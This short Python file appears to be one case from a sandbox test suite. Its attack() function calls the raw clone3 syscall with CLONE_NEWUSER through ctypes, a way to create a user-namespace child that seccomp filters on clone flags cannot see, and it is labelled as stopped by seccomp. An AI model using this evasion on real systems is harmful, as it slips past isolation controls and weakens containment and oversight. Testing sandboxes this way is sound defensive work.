"""Has a child born in a namespace by the call that no filter sees.

stopped by: seccomp
unfenced: succeeds
"""

# %%
import ctypes
import os
import signal
import struct

CLONE3, CLONE_NEWUSER = 435, 0x10000000


def attack():
    wanted = struct.pack("<8Q", CLONE_NEWUSER, 0, 0, 0, signal.SIGCHLD, 0, 0, 0)
    child = ctypes.CDLL(None, use_errno=True).syscall(CLONE3, wanted, len(wanted))
    if child == 0:
        os._exit(0)
    return child > 0 and os.waitpid(child, 0)
